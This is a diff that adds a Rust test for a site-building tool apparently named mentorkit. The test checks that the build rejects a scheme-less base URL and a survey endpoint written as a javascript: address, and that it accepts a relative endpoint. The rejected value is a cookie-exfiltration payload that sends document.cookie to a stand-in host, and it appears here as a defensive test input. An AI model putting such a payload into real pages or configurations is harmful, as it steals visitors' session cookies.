@@ -81,3 +81,39 @@ fn a_question_that_looks_like_a_formula_is_text_in_the_data_dictionary() {
         }
     }
 }
+
+#[test]
+fn a_survey_endpoint_or_base_url_that_is_not_a_web_address_is_an_error() {
+    let project = Project::new();
+    project.write(
+        "mentorkit.yaml",
+        &(common::CONFIG.to_string()
+            + "base_url: //cdn.example.org/x\nsurveys:\n  submit: post\n  endpoint: \"javascript:fetch('//x.example/'+document.cookie)\"\n"),
+    );
+    let (code, err) = output(mentorkit().args(["build", "--root"]).arg(project.root()));
+    assert_eq!(code, 1, "{err}");
+    assert!(
+        err.contains(
+            "`//cdn.example.org/x` has no scheme, so browsers read it as an address on another host"
+        ),
+        "{err}"
+    );
+    assert!(
+        err.contains(
+            "is a `javascript:` address; only http and https addresses and paths are taken"
+        ),
+        "{err}"
+    );
+    assert!(err.contains("--> mentorkit.yaml:"), "{err}");
+    assert!(!project.path("public").exists());
+
+    project.write(
+        "mentorkit.yaml",
+        &(common::CONFIG.to_string() + "surveys:\n  submit: post\n  endpoint: api/responses\n"),
+    );
+    let (code, err) = output(mentorkit().args(["check", "--root"]).arg(project.root()));
+    assert_eq!(
+        code, 0,
+        "a relative endpoint is a path on the site's host: {err}"
+    );
+}
